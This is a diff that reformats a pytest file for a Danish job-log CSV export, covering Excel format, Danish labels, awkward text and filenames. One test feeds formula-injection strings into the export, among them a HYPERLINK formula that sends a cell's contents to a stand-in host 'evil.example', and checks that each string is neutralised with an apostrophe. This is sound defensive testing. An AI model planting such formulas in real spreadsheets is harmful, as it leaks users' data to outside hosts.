@@ -1,4 +1,5 @@
 """The joblog CSV export: opens in Danish Excel (BOM, `;`, ISO dates), survives awkward text, runs no formulas."""
+
 from __future__ import annotations
 
 import csv
@@ -6,22 +7,47 @@ import io
 from datetime import date
 
 import pytest
-from portal.i18n import force_locale
 
+from portal.i18n import force_locale
 from portal.joblog.export import COLUMNS, csv_bytes, csv_chunks, filename
 from portal.joblog.models import JobLogEntry
 
-DANISH_HEADER = ["Type", "Dato", "Stilling/aktivitet", "Virksomhed", "Arbejdssted", "Ansøgningstype", "Status",
-                 "Resultat", "Plan", "Ansøgningsfrist", "Kontaktperson", "Link", "Noter"]
+DANISH_HEADER = [
+    "Type",
+    "Dato",
+    "Stilling/aktivitet",
+    "Virksomhed",
+    "Arbejdssted",
+    "Ansøgningstype",
+    "Status",
+    "Resultat",
+    "Plan",
+    "Ansøgningsfrist",
+    "Kontaktperson",
+    "Link",
+    "Noter",
+]
 NOTE = 'Ring igen; spørg efter "Åse"\nnæste uge'
 
 
 def entry(**fields) -> JobLogEntry:
     """An application in memory (never saved), with the given fields changed."""
-    values = {"entry_type": "application", "job_title": "Lagermedarbejder", "employer": "Æblegården ApS",
-              "location": "Køge", "application_type": "advertised", "activity_kind": None,
-              "applied_on": date(2026, 9, 1), "deadline": None, "contact_person": None, "link": None,
-              "status": "applied", "result": None, "track": "A", "notes": None}
+    values = {
+        "entry_type": "application",
+        "job_title": "Lagermedarbejder",
+        "employer": "Æblegården ApS",
+        "location": "Køge",
+        "application_type": "advertised",
+        "activity_kind": None,
+        "applied_on": date(2026, 9, 1),
+        "deadline": None,
+        "contact_person": None,
+        "link": None,
+        "status": "applied",
+        "result": None,
+        "track": "A",
+        "notes": None,
+    }
     values.update(fields)
     return JobLogEntry(**values)
 
@@ -55,10 +81,21 @@ def test_excel_format_bom_semicolons_and_crlf(danish):
 
 def test_header_and_labels_in_danish(danish):
     [row] = export(entry(status="closed", result="got_job", deadline=date(2026, 8, 28)))
-    assert row == {"Type": "Jobsøgning", "Dato": "2026-09-01", "Stilling/aktivitet": "Lagermedarbejder",
-                   "Virksomhed": "Æblegården ApS", "Arbejdssted": "Køge", "Ansøgningstype": "Opslået stilling",
-                   "Status": "Afsluttet", "Resultat": "Fik jobbet", "Plan": "Plan A",
-                   "Ansøgningsfrist": "2026-08-28", "Kontaktperson": "", "Link": "", "Noter": ""}
+    assert row == {
+        "Type": "Jobsøgning",
+        "Dato": "2026-09-01",
+        "Stilling/aktivitet": "Lagermedarbejder",
+        "Virksomhed": "Æblegården ApS",
+        "Arbejdssted": "Køge",
+        "Ansøgningstype": "Opslået stilling",
+        "Status": "Afsluttet",
+        "Resultat": "Fik jobbet",
+        "Plan": "Plan A",
+        "Ansøgningsfrist": "2026-08-28",
+        "Kontaktperson": "",
+        "Link": "",
+        "Noter": "",
+    }
 
 
 def test_applied_status_and_empty_optional_fields(danish):
@@ -67,24 +104,24 @@ def test_applied_status_and_empty_optional_fields(danish):
 
 
 def test_other_activity_shows_its_kind_as_application_type(danish):
-    [row] = export(entry(entry_type="other", job_title="Jobmesse i Holbæk", application_type=None,
-                         activity_kind="job_fair"))
+    [row] = export(
+        entry(entry_type="other", job_title="Jobmesse i Holbæk", application_type=None, activity_kind="job_fair")
+    )
     assert (row["Type"], row["Ansøgningstype"]) == ("Anden aktivitet", "Jobmesse")
 
 
 def test_danish_letters_and_awkward_notes_round_trip(danish):
-    [row] = export(entry(notes=NOTE, contact_person="Søren Ærø-Østergaard",
-                         link="https://job.example/1?a=1;b=2"))
+    [row] = export(entry(notes=NOTE, contact_person="Søren Ærø-Østergaard", link="https://job.example/1?a=1;b=2"))
     assert row["Noter"] == NOTE
     assert row["Kontaktperson"] == "Søren Ærø-Østergaard"
     assert row["Link"] == "https://job.example/1?a=1;b=2"
 
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example?x="&A1;"Klik")', "+1", "-2", "@SUM(A1:A9)",
-                                  "\t=1", "\r=1"])
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("https://evil.example?x="&A1;"Klik")', "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1"]
+)
 def test_formula_like_text_is_prefixed_with_an_apostrophe(danish, text):
-    [row] = export(entry(job_title=text, employer=text, location=text, contact_person=text, link=text,
-                         notes=text))
+    [row] = export(entry(job_title=text, employer=text, location=text, contact_person=text, link=text, notes=text))
     for column in ("Stilling/aktivitet", "Virksomhed", "Arbejdssted", "Kontaktperson", "Link", "Noter"):
         assert row[column] == "'" + text, column
 
@@ -116,12 +153,15 @@ def test_english_request_renders_in_english(danish):
     assert row[1] == "2026-09-01"
 
 
-@pytest.mark.parametrize("start, end, expected", [
-    (date(2026, 9, 1), date(2026, 11, 23), "joblog-2026-09-01-til-2026-11-23.csv"),
-    (None, None, "joblog.csv"),
-    (date(2026, 9, 1), None, "joblog-fra-2026-09-01.csv"),
-    (None, date(2026, 11, 23), "joblog-til-2026-11-23.csv"),
-])
+@pytest.mark.parametrize(
+    "start, end, expected",
+    [
+        (date(2026, 9, 1), date(2026, 11, 23), "joblog-2026-09-01-til-2026-11-23.csv"),
+        (None, None, "joblog.csv"),
+        (date(2026, 9, 1), None, "joblog-fra-2026-09-01.csv"),
+        (None, date(2026, 11, 23), "joblog-til-2026-11-23.csv"),
+    ],
+)
 def test_filename_is_ascii_and_names_the_period(start, end, expected):
     name = filename(start, end)
     assert name == expected
